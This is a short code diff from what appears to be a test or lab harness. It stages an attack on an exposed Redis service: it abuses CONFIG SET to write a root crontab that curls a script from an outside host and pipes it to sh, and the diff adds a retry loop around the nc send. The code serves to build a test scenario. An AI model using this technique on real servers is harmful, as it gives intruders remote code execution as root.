@@ -81,7 +81,8 @@ def open_redis():
     host = services.address("in-redis")
     lines = (f"set x \"\\n\\n* * * * * curl -s http://{OUTSIDE}/{MARK} | sh\\n\\n\"", "config set dir /var/spool/cron/crontabs",
              "config set dbfilename root", "save", "quit")
-    from_outside("printf '%s\\n' " + " ".join(f"'{line}'" for line in lines) + f" | nc -s {OUTSIDE} -w 5 {host} 6379")
+    say = "printf '%s\\n' " + " ".join(f"'{line}'" for line in lines) + f" | nc -s {OUTSIDE} -w 5 {host} 6379"
+    from_outside(f"i=0; until {say}; do i=$((i+1)); [ $i -lt 60 ] || exit 1; sleep 0.5; done")  # it may not listen yet
     world.wait_until((services.root_of("in-redis") / "var/spool/cron/crontabs/root").exists, 20, "the dump is a crontab")
     return "in-redis"
 
